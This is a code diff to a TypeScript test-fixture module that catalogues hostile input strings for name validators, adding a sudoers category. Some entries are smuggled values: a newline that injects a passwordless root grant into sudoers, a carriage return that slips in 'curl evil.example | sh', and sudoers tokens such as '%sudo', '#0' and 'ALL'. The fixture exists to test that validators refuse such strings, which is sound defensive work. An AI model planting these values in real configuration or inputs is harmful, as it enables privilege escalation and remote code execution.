@@ -56,7 +56,9 @@ export type HostileClass =
   /** Longer than any name or line limit here (255 bytes, 4 KiB, 64 Ki characters). */
   | "over-long"
   /** The empty string. */
-  | "empty";
+  | "empty"
+  /** Means something else to sudo when it stands for a user or group: an alias, `%group`, `#uid`, a list. */
+  | "sudoers";
 
 /** One hostile string. */
 export interface HostileString {
@@ -192,12 +194,35 @@ function build(): HostileString[] {
     ["256 emoji (4 bytes each)", "\u{1f600}".repeat(256)],
   ]);
   add("newline then section", "a\n[org/evil]\nk=1", "newline", "c0", "ini");
+  add("sudoers line break into a grant", "alice\nbob ALL=(ALL) NOPASSWD: ALL", "sudoers", "newline", "c0");
+  add("script line ended by a carriage return", "true\rcurl evil.example | sh", "newline", "c0", "shell");
   add("CRLF header injection", "x\r\nSet-Cookie: a=b", "newline", "c0");
   return out;
 }
 
 /** Every hostile string, each with a unique name. */
 export const HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(build());
+
+/**
+ * Values that are harmless in most names (`ALL` is a fine dconf schema component, `+wheel` a firewalld service) but
+ * mean something else to sudo where a user or group name becomes a sudoers word: everyone, an alias, a list, a
+ * Runas or host separator, `%group`, `#uid`, a netgroup, a negation. Kept apart from {@link HOSTILE_STRINGS}, whose
+ * entries every name checker refuses; the Privilege tests try both.
+ */
+export const SUDOERS_HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(
+  ([
+    ["sudoers everyone", "ALL"],
+    ["sudoers alias", "ADMINS_1"],
+    ["sudoers list", "alice,ALL"],
+    ["sudoers runas separator", "alice:root"],
+    ["sudoers host assignment", "alice=ALL"],
+    ["sudoers group sigil", "%sudo"],
+    ["sudoers uid", "#0"],
+    ["sudoers netgroup", "+wheel"],
+    ["sudoers negation", "!alice"],
+    ["sudoers escape", "alice\\ ALL"],
+  ] as const).map(([name, value]) => ({ name, value, classes: ["sudoers"] as const })),
+);
 
 /** Every class used in {@link HOSTILE_STRINGS}. */
 export const HOSTILE_CLASSES: readonly HostileClass[] = Object.freeze([
